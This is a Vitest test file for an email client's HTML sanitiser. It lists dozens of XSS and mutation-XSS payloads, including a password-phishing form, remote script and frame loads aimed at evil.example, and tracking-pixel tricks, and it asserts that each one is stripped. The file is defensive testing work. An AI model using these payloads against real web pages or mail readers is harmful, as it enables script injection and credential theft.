// @vitest-environment jsdom
import * as fc from "fast-check";
import { describe, expect, it } from "vitest";
import { cleanEmail, emailDocument } from "../../../web/inbox/thread/email-html";

/** 12: a mail shows words and pictures. It runs nothing, asks for nothing, covers nothing and sends nobody anywhere unasked. */

const [frameSource] = Object.values(import.meta.glob<string>("../../../web/inbox/thread/email-frame.tsx", { query: "?raw", import: "default", eager: true })) as [string];

const clean = (html: string, allowRemote = false) => cleanEmail(html, { allowRemote, inline: {}, labels: { quote: "Earlier", signature: "Signature" } });

/** Parses the result as the frame will, and again as a second reader would: what changes between the two is how mutation attacks work. */
function parsed(html: string): Document {
  const once = new DOMParser().parseFromString(emailDocument({ html }, false), "text/html");
  return new DOMParser().parseFromString(once.documentElement.outerHTML, "text/html");
}

const RUNS = "script, iframe, frame, object, embed, applet, form, input, button, select, textarea, base, link, svg, math, audio, video, template, noscript, portal, dialog";

/** Everything in a parsed mail that could do something. */
function dangers(html: string): string[] {
  const page = parsed(html);
  const found: string[] = [...page.querySelectorAll(RUNS)].map((element) => element.outerHTML);
  for (const element of page.querySelectorAll("body, body *"))
    for (const { name, value } of element.attributes) {
      if (/^on/i.test(name) || ["srcset", "ping", "formaction", "background", "poster", "srcdoc", "id", "name", "action"].includes(name)) found.push(`${name}=${value}`);
      if (["href", "src", "xlink:href", "cite", "data"].includes(name) && /^[\s\u0000-\u0020]*(?:javascript|vbscript|file|data:(?!image\/(?:png|jpe?g|gif|webp);))/i.test(value)) found.push(`${name}=${value}`);
    }
  return found.concat([...page.querySelectorAll("body meta")].map((element) => element.outerHTML));
}

const ATTACKS: readonly (readonly [name: string, html: string])[] = [
  ["a script", "<script>alert(1)</script>"], ["a script in capitals with a newline", "<SCRIPT\n>alert(1)</SCRIPT\n>"], ["a script from elsewhere", '<script src="https://evil.example/x.js"></script>'],
  ["a picture's handler", "<img src=x onerror=alert(1)>"], ["a handler without a space", "<img/src=x/onerror=alert(1)>"], ["a handler after a quotation", '<img src="x" alt="`" onerror="alert(1)">'], ["details' handler", "<details open ontoggle=alert(1)>"],
  ["body's handler", "<body onload=alert(1)>"], ["an animation's handler", "<style>@keyframes x{}</style><p style=animation-name:x onanimationstart=alert(1)>"], ["a focus trap", "<a autofocus tabindex=0 onfocus=alert(1)>x</a>"],
  ["a script address", "<a href=javascript:alert(1)>x</a>"], ["one with an entity", "<a href='java&#115;cript:alert(1)'>x</a>"], ["one with a tab", "<a href='java\tscript:alert(1)'>x</a>"], ["one with a control character", "<a href='\u0001javascript:alert(1)'>x</a>"],
  ["one in capitals", "<a href=' JaVaScRiPt:alert(1)'>x</a>"], ["vbscript", "<a href=vbscript:msgbox(1)>x</a>"], ["an html data address", "<a href='data:text/html,<script>alert(1)</script>'>x</a>"], ["an svg data picture", "<img src='data:image/svg+xml,<svg onload=alert(1)>'>"],
  ["a local file", "<a href='file:///etc/passwd'>x</a>"], ["a map's area", "<map><area href=javascript:alert(1)></map>"],
  ["svg", "<svg onload=alert(1)>"], ["svg with an animation", "<svg><animate onbegin=alert(1) attributeName=x dur=1s>"], ["svg with use", "<svg><use href='data:image/svg+xml,x#x'/></svg>"], ["svg with a foreign object", "<svg><foreignObject><iframe src=javascript:alert(1)></foreignObject></svg>"],
  ["mathml", "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>"], ["mathml href", "<math href=javascript:alert(1)>x</math>"],
  ["mutation by style in math", "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>"], ["mutation by noscript", "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>"], ["mutation by title", "<svg><title><style><img src=x onerror=alert(1)></style></title></svg>"],
  ["mutation by form in math", "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)></style></mglyph></form></mtext></math></form>"], ["mutation by annotation", "<math><annotation-xml encoding='text/html'><style><img src=x onerror=alert(1)></style></annotation-xml></math>"],
  ["mutation by template", "<template><style><!--</style><a title='--><img src=x onerror=alert(1)>'></template>"], ["mutation by select", "<select><template><style><!--</style><a rel='--><img src=x onerror=alert(1)>'>"],
  ["a comment's end", "<!--><img src=x onerror=alert(1)>-->"], ["a conditional comment", "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->"], ["a CDATA section", "<![CDATA[<script>alert(1)</script>]]>"], ["an XML stylesheet", "<?xml-stylesheet href='javascript:alert(1)'?>"],
  ["a nested tag", "<scr<script>ipt>alert(1)</scr</script>ipt>"], ["an unclosed tag", "<img src=x onerror=alert(1)//"], ["a NUL in a tag", "<scr\u0000ipt>alert(1)</scr\u0000ipt>"], ["a style that ends early", "<style></style><script>alert(1)</script>"], ["a style with a tag in it", "<style><img src=x onerror=alert(1)></style>"],
  ["a frame", "<iframe src=https://evil.example></iframe>"], ["a frame with its own page", "<iframe srcdoc='<script>alert(1)</script>'></iframe>"], ["an object", "<object data=https://evil.example/x.swf></object>"], ["an embed", "<embed src=https://evil.example/x.swf>"],
  ["a form for a password", "<form action=https://evil.example><input type=password name=p><button>Sign in</button></form>"], ["a button elsewhere", "<button formaction=https://evil.example>x</button>"], ["a base", "<base href=https://evil.example/>"], ["a refresh", "<meta http-equiv=refresh content='0;url=https://evil.example'>"], ["its own policy", "<meta http-equiv=Content-Security-Policy content='default-src *'>"],
  ["a stylesheet", "<link rel=stylesheet href=https://evil.example/a.css>"], ["a prefetch", "<link rel=dns-prefetch href=//evil.example>"], ["a name that hides ours", "<img name=body><form name=cookie id=getElementById></form><a id=documentElement></a>"], ["a ping", "<a href=https://example.com ping=https://evil.example>x</a>"],
];

describe("a mail's HTML", () => {
  it.each(ATTACKS)("does nothing with %s", (_, html) => {
    for (const around of [html, `<div><p>${html}</p></div>`, `<table><tr><td>${html}`, `<blockquote type="cite">${html}</blockquote>`, `<style>p{}</style>${html}<p>after</p>`])
      for (const allowRemote of [false, true]) expect(dangers(clean(around, allowRemote).html), around).toEqual([]);
  });

  it("does nothing with any two of them inside one another, nor with a piece of one", () => {
    const piece = fc.oneof(fc.constantFrom(...ATTACKS.map(([, html]) => html)), fc.constantFrom("<p>", "</p>", "<table>", "</style>", "<!--", "-->", "</title>", "\"", "'", ">", "<svg>", "</math>", "<style>"), fc.string({ maxLength: 5 }));
    fc.assert(fc.property(fc.array(piece, { maxLength: 4 }), fc.nat(200), (pieces, cut) => {
      const html = pieces.join("");
      for (const text of [html, html.slice(0, cut), html.slice(cut)]) expect(dangers(clean(text).html), text).toEqual([]);
    }), { numRuns: 60 });
  }, 30_000);

  it.each([
    ["an ordinary picture", "<img src=https://track.example/p.gif>"], ["one without a scheme", "<img src=//track.example/p.gif>"], ["one in capitals", "<IMG SRC=HTTPS://track.example/p.gif>"], ["one after a space", "<img src=' https://track.example/p.gif'>"], ["one after a line end", "<img src='\n//track.example/p.gif'>"],
    ["backslashes", "<img src='\\\\track.example/p.gif'>"], ["a mixed slash", "<img src='https:\\/track.example/p.gif'>"], ["one slash", "<img src='https:/track.example/p.gif'>"], ["an unclosed one", "<img src='https://track.example/p.gif"], ["many sizes", "<img srcset='https://track.example/p.gif 1x'>"], ["a table's background", "<table background=https://track.example/p.gif>"],
    ["a style", "<p style='background:url(https://track.example/a)'>a</p>"], ["a style with quotations", "<p style='background:URL( \"https://track.example/a\" )'>a</p>"], ["a style sheet", "<style>p{background:url(https://track.example/a)}</style><p>a"], ["a font", "<style>@font-face{font-family:x;src:url(https://track.example/f)}</style>"], ["an import", "<style>@import 'https://track.example/a.css';</style>"], ["an import without its end", "<style>@import url(https://track.example/a.css)</style>"],
    ["a video's poster", "<video poster=https://track.example/p.gif>"], ["an input picture", "<input type=image src=https://track.example/p.gif>"],
  ])("asks for nothing through %s until somebody wants its pictures", (_, html) => {
    const result = clean(`<p>Hi</p>${html}`);
    const page = parsed(result.html);
    expect(result.html.replace(/<a [^>]*>/g, "")).not.toContain("track.example");
    expect(page.querySelectorAll("[src], [srcset], [background], [poster]").length).toBe(0);
  });

  it("cannot get past the frame's own policy: what slips through a style's spelling is not fetched", () => {
    // A style can be spelled in ways no cleaner knows; the policy, not the cleaner, decides what is fetched.
    for (const css of ["background:u\\72l(https://track.example/a)", "background:image-set('https://track.example/a' 1x)"]) {
      const page = new DOMParser().parseFromString(emailDocument(clean(`<p style="${css}">a</p>`), false), "text/html");
      const policies = [...page.head.querySelectorAll("meta[http-equiv]")];
      expect(policies.map((meta) => meta.getAttribute("content"))).toEqual(["default-src 'none'; style-src 'unsafe-inline'; img-src data:; form-action 'none'; base-uri 'none'"]);
      // It must stand before everything it is to hold for.
      expect(page.head.querySelector("style, img, link")!.compareDocumentPosition(policies[0]!) & Node.DOCUMENT_POSITION_PRECEDING).toBeTruthy();
      expect(page.body.querySelector("meta")).toBeNull();
    }
  });

  it.each([["addresses in a style that never end", `<p style="${"url(".repeat(50_000)}">a</p>`], ["addresses in a sheet that never end", `<style>${"url(".repeat(50_000)}</style>a`]])(
    "holds nobody's browser up: %s", (_what, html) => {
      const started = performance.now();
      expect(clean(html).html).not.toContain("url(");
      expect(performance.now() - started).toBeLessThan(4_000);
    });

  it("has no more signatures than a thread has: each costs a look at all before it", () =>
    expect(parsed(clean('<p>a</p><div class="gmail_signature">x</div>'.repeat(40)).html).querySelectorAll("details")).toHaveLength(20));

  it("stands in a frame without scripts, without our origin and without the top window, which its layout cannot leave", () => {
    const sandbox = /sandbox="([^"]*)"/.exec(frameSource)![1]!.split(" ");
    expect(sandbox).not.toContain("allow-scripts");
    expect(sandbox).not.toContain("allow-same-origin");
    expect(sandbox.filter((leave) => /top-navigation|forms|modals|downloads|pointer/.test(leave))).toEqual([]);
    expect(frameSource.match(/<iframe/g)).toHaveLength(1);
    expect(frameSource).toMatch(/srcdoc=\{mail\(\)\.srcdoc\}/);
  });

  it("keeps what people write: words, lists, tables, links and pictures that came with it", () => {
    const { html } = cleanEmail("<h1>Hi</h1><ul><li>a</li></ul><table><tr><td style='color:red'>b</td></tr></table><a href='https://example.com/?a=1&b=2'>c</a><a href='mailto:a@example.com'>d</a><a href='tel:+1'>e</a><img src='cid:logo' alt='f'>", { allowRemote: false, inline: { logo: "data:image/png;base64,AAAA" }, labels: { quote: "Earlier", signature: "Signature" } });
    const page = parsed(html);
    expect([...page.querySelectorAll("body a")].map((link) => link.getAttribute("href"))).toEqual(["https://example.com/?a=1&b=2", "mailto:a@example.com", "tel:+1"]);
    expect([page.querySelector("body td")!.getAttribute("style"), page.querySelector("body img")!.getAttribute("src"), page.querySelector("body li")!.textContent]).toEqual(["color:red", "data:image/png;base64,AAAA", "a"]);
  });
});
